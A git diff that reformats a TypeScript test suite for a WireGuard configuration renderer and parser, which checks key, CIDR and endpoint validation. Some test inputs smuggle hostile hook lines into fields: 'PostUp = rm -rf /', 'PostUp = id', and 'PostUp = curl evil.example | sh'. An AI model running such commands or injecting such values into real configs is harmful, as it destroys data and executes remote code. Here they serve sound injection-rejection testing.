@@ -5,8 +5,16 @@ import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import {
-  clientConfig, isCidr, parseWgQuickConfig, renderClientConfig, renderWgConfig, renderWgQuickConfig, toWgConfig,
-  WireGuardConfigError, type ClientConfigInput, type WgConfig,
+  clientConfig,
+  isCidr,
+  parseWgQuickConfig,
+  renderClientConfig,
+  renderWgConfig,
+  renderWgQuickConfig,
+  toWgConfig,
+  WireGuardConfigError,
+  type ClientConfigInput,
+  type WgConfig,
 } from './config.js';
 import { findExecutable } from './commands.js';
 import { generateKeyPair, generatePresharedKey } from './keys.js';
@@ -34,15 +42,31 @@ describe('renderWgConfig (wg setconf / syncconf format)', () => {
       listenPort: 51820,
       peers: [
         { publicKey: K2, presharedKey: K3, allowedIps: ['10.8.0.2/32'] },
-        { publicKey: K4, allowedIps: ['10.8.0.3/32', '192.168.50.0/24'], endpoint: '192.0.2.7:4500', persistentKeepalive: 25 },
+        {
+          publicKey: K4,
+          allowedIps: ['10.8.0.3/32', '192.168.50.0/24'],
+          endpoint: '192.0.2.7:4500',
+          persistentKeepalive: 25,
+        },
       ],
     });
     assert.equal(
       text,
       [
-        '[Interface]', `PrivateKey = ${K1}`, 'ListenPort = 51820', '',
-        '[Peer]', `PublicKey = ${K2}`, `PresharedKey = ${K3}`, 'AllowedIPs = 10.8.0.2/32', '',
-        '[Peer]', `PublicKey = ${K4}`, 'Endpoint = 192.0.2.7:4500', 'AllowedIPs = 10.8.0.3/32, 192.168.50.0/24', 'PersistentKeepalive = 25',
+        '[Interface]',
+        `PrivateKey = ${K1}`,
+        'ListenPort = 51820',
+        '',
+        '[Peer]',
+        `PublicKey = ${K2}`,
+        `PresharedKey = ${K3}`,
+        'AllowedIPs = 10.8.0.2/32',
+        '',
+        '[Peer]',
+        `PublicKey = ${K4}`,
+        'Endpoint = 192.0.2.7:4500',
+        'AllowedIPs = 10.8.0.3/32, 192.168.50.0/24',
+        'PersistentKeepalive = 25',
         '',
       ].join('\n'),
     );
@@ -51,7 +75,11 @@ describe('renderWgConfig (wg setconf / syncconf format)', () => {
 
   it('rejects every value that could break out of its line, naming the field and never the key', () => {
     const secret = generateKeyPair().privateKey;
-    const base: WgConfig = { privateKey: secret, listenPort: 51820, peers: [{ publicKey: K2, allowedIps: ['10.8.0.2/32'] }] };
+    const base: WgConfig = {
+      privateKey: secret,
+      listenPort: 51820,
+      peers: [{ publicKey: K2, allowedIps: ['10.8.0.2/32'] }],
+    };
     const cases: Array<[string, WgConfig]> = [
       ['privateKey', { ...base, privateKey: `${secret}\nListenPort = 1` }],
       ['privateKey', { ...base, privateKey: secret.slice(0, 43) }],
@@ -60,14 +88,23 @@ describe('renderWgConfig (wg setconf / syncconf format)', () => {
       ['listenPort', { ...base, listenPort: 1.5 }],
       ['peers[0].publicKey', { ...base, peers: [{ publicKey: `${K2}\n[Peer]`, allowedIps: [] }] }],
       ['peers[0].presharedKey', { ...base, peers: [{ publicKey: K2, presharedKey: 'short', allowedIps: [] }] }],
-      ['peers[0].allowedIps[1]', { ...base, peers: [{ publicKey: K2, allowedIps: ['10.8.0.2/32', '10.8.0.3/32\nEndpoint = x:1'] }] }],
+      [
+        'peers[0].allowedIps[1]',
+        { ...base, peers: [{ publicKey: K2, allowedIps: ['10.8.0.2/32', '10.8.0.3/32\nEndpoint = x:1'] }] },
+      ],
       ['peers[0].allowedIps[0]', { ...base, peers: [{ publicKey: K2, allowedIps: ['10.8.0.300/32'] }] }],
       ['peers[0].allowedIps[0]', { ...base, peers: [{ publicKey: K2, allowedIps: ['10.8.0.2/33'] }] }],
       ['peers[0].allowedIps[0]', { ...base, peers: [{ publicKey: K2, allowedIps: ['10.8.0.2'] }] }],
       ['peers[0].allowedIps[0]', { ...base, peers: [{ publicKey: K2, allowedIps: ['fd00::/129'] }] }],
-      ['peers[0].endpoint', { ...base, peers: [{ publicKey: K2, allowedIps: [], endpoint: 'host:1\nPostUp = rm -rf /' }] }],
+      [
+        'peers[0].endpoint',
+        { ...base, peers: [{ publicKey: K2, allowedIps: [], endpoint: 'host:1\nPostUp = rm -rf /' }] },
+      ],
       ['peers[0].endpoint', { ...base, peers: [{ publicKey: K2, allowedIps: [], endpoint: 'host' }] }],
-      ['peers[0].persistentKeepalive', { ...base, peers: [{ publicKey: K2, allowedIps: [], persistentKeepalive: -1 }] }],
+      [
+        'peers[0].persistentKeepalive',
+        { ...base, peers: [{ publicKey: K2, allowedIps: [], persistentKeepalive: -1 }] },
+      ],
     ];
     for (const [field, config] of cases) {
       assert.throws(
@@ -99,9 +136,18 @@ describe('client config (wg-quick)', () => {
     assert.equal(
       renderClientConfig(client),
       [
-        '[Interface]', `PrivateKey = ${K1}`, 'Address = 10.8.0.2/32', 'DNS = 10.8.0.1, cell.home', '',
-        '[Peer]', `PublicKey = ${K2}`, `PresharedKey = ${K3}`, 'Endpoint = vpn.example.org:51820',
-        'AllowedIPs = 10.8.0.0/24, fd00::/64', 'PersistentKeepalive = 25', '',
+        '[Interface]',
+        `PrivateKey = ${K1}`,
+        'Address = 10.8.0.2/32',
+        'DNS = 10.8.0.1, cell.home',
+        '',
+        '[Peer]',
+        `PublicKey = ${K2}`,
+        `PresharedKey = ${K3}`,
+        'Endpoint = vpn.example.org:51820',
+        'AllowedIPs = 10.8.0.0/24, fd00::/64',
+        'PersistentKeepalive = 25',
+        '',
       ].join('\n'),
     );
   });
@@ -109,7 +155,13 @@ describe('client config (wg-quick)', () => {
   it('parses back to the same structure it was rendered from', () => {
     const parsed = parseWgQuickConfig(renderClientConfig(client));
     assert.deepEqual(parsed, { ...clientConfig(client), ignoredKeys: [] });
-    const random = { ...client, privateKey: generateKeyPair().privateKey, presharedKey: generatePresharedKey(), mtu: 1380, persistentKeepalive: 0 };
+    const random = {
+      ...client,
+      privateKey: generateKeyPair().privateKey,
+      presharedKey: generatePresharedKey(),
+      mtu: 1380,
+      persistentKeepalive: 0,
+    };
     const again = parseWgQuickConfig(renderClientConfig(random));
     assert.equal(again.interface.privateKey, random.privateKey);
     assert.equal(again.interface.mtu, 1380);
@@ -118,9 +170,18 @@ describe('client config (wg-quick)', () => {
   });
 
   it('rejects bad client values (newline in DNS, bad address)', () => {
-    assert.throws(() => renderClientConfig({ ...client, dns: ['10.8.0.1\nPostUp = id'] }), (e: WireGuardConfigError) => e.field === 'interface.dns[0]');
-    assert.throws(() => renderClientConfig({ ...client, address: '10.8.0.2/40' }), (e: WireGuardConfigError) => e.field === 'interface.addresses[0]');
-    assert.throws(() => renderClientConfig({ ...client, cellPublicKey: 'x' }), (e: WireGuardConfigError) => e.field === 'peers[0].publicKey');
+    assert.throws(
+      () => renderClientConfig({ ...client, dns: ['10.8.0.1\nPostUp = id'] }),
+      (e: WireGuardConfigError) => e.field === 'interface.dns[0]',
+    );
+    assert.throws(
+      () => renderClientConfig({ ...client, address: '10.8.0.2/40' }),
+      (e: WireGuardConfigError) => e.field === 'interface.addresses[0]',
+    );
+    assert.throws(
+      () => renderClientConfig({ ...client, cellPublicKey: 'x' }),
+      (e: WireGuardConfigError) => e.field === 'peers[0].publicKey',
+    );
   });
 
   it('toWgConfig drops Address/DNS/MTU and matches what `wg-quick strip` makes of the same file', (t) => {
@@ -134,7 +195,12 @@ describe('client config (wg-quick)', () => {
       const file = join(dir, 'picstrip0.conf');
       writeFileSync(file, renderWgQuickConfig(config), { mode: 0o600 });
       const theirs = execFileSync(wgQuick, ['strip', file], { encoding: 'utf8' });
-      const norm = (s: string) => s.split('\n').map((l) => l.trim()).filter(Boolean).join('\n');
+      const norm = (s: string) =>
+        s
+          .split('\n')
+          .map((l) => l.trim())
+          .filter(Boolean)
+          .join('\n');
       assert.equal(norm(theirs), norm(stripped));
     } finally {
       rmSync(dir, { recursive: true, force: true });
@@ -146,13 +212,31 @@ describe('parseWgQuickConfig', () => {
   it('reads what people write: comments, any case, repeated and comma lists, hooks noted but not applied', () => {
     const parsed = parseWgQuickConfig(
       [
-        '# my phone', '[interface]', `privatekey=${K1}   # secret`, 'Address = 10.8.0.5/32', 'Address = fd00::5/128',
-        'DNS = 10.8.0.1,1.1.1.1', 'PostUp = curl evil.example | sh', 'Table = off', '', '[PEER]', `PublicKey = ${K2}`,
-        'AllowedIPs = 0.0.0.0/0', 'allowedips = ::/0', 'Endpoint = [2001:db8::1]:51820', 'PersistentKeepalive = off',
-        '[Peer]', `PublicKey = ${K4}`, 'AllowedIPs = 10.9.0.0/16',
+        '# my phone',
+        '[interface]',
+        `privatekey=${K1}   # secret`,
+        'Address = 10.8.0.5/32',
+        'Address = fd00::5/128',
+        'DNS = 10.8.0.1,1.1.1.1',
+        'PostUp = curl evil.example | sh',
+        'Table = off',
+        '',
+        '[PEER]',
+        `PublicKey = ${K2}`,
+        'AllowedIPs = 0.0.0.0/0',
+        'allowedips = ::/0',
+        'Endpoint = [2001:db8::1]:51820',
+        'PersistentKeepalive = off',
+        '[Peer]',
+        `PublicKey = ${K4}`,
+        'AllowedIPs = 10.9.0.0/16',
       ].join('\r\n'),
     );
-    assert.deepEqual(parsed.interface, { privateKey: K1, addresses: ['10.8.0.5/32', 'fd00::5/128'], dns: ['10.8.0.1', '1.1.1.1'] });
+    assert.deepEqual(parsed.interface, {
+      privateKey: K1,
+      addresses: ['10.8.0.5/32', 'fd00::5/128'],
+      dns: ['10.8.0.1', '1.1.1.1'],
+    });
     assert.deepEqual(parsed.peers, [
       { publicKey: K2, allowedIps: ['0.0.0.0/0', '::/0'], endpoint: '[2001:db8::1]:51820', persistentKeepalive: 0 },
       { publicKey: K4, allowedIps: ['10.9.0.0/16'] },
@@ -173,7 +257,10 @@ describe('parseWgQuickConfig', () => {
       [`[Interface]\nPrivateKey = ${K1}\n[Peer]\nAllowedIPs = 10.8.0.0/24`, /peers\[0\].publicKey: is missing/],
       [`[Interface]\nPrivateKey = ${K1}\nListenPort = 5x`, /line 3 \(ListenPort\): must be a whole number/],
       [`[Interface]\nPrivateKey = ${K1}\nListenPort = 99999`, /interface.listenPort: must be 1-65535/],
-      [`[Interface]\nPrivateKey = ${K1}\n[Peer]\nPublicKey = ${K2}\nAllowedIPs = 10.8.0.0/99`, /peers\[0\].allowedIps\[0\]/],
+      [
+        `[Interface]\nPrivateKey = ${K1}\n[Peer]\nPublicKey = ${K2}\nAllowedIPs = 10.8.0.0/99`,
+        /peers\[0\].allowedIps\[0\]/,
+      ],
       [`[Interface]\nPrivateKey = nope`, /interface.privateKey: must be a WireGuard key/],
     ];
     for (const [text, expected] of cases) assert.throws(() => parseWgQuickConfig(text), expected, text);
@@ -182,8 +269,18 @@ describe('parseWgQuickConfig', () => {
 
 describe('isCidr', () => {
   it('accepts IPv4 and IPv6 CIDRs only', () => {
-    for (const ok of ['10.8.0.0/24', '0.0.0.0/0', '10.8.0.2/32', '::/0', 'fd00::1/128', '2001:db8::/32']) assert.ok(isCidr(ok), ok);
-    for (const bad of ['10.8.0.0', '10.8.0.0/33', '::/129', 'fd00::/01', 'x/24', '10.8.0.0/24\n', '10.8.0.0/24/1', '']) {
+    for (const ok of ['10.8.0.0/24', '0.0.0.0/0', '10.8.0.2/32', '::/0', 'fd00::1/128', '2001:db8::/32'])
+      assert.ok(isCidr(ok), ok);
+    for (const bad of [
+      '10.8.0.0',
+      '10.8.0.0/33',
+      '::/129',
+      'fd00::/01',
+      'x/24',
+      '10.8.0.0/24\n',
+      '10.8.0.0/24/1',
+      '',
+    ]) {
       assert.equal(isCidr(bad), false, JSON.stringify(bad));
     }
   });
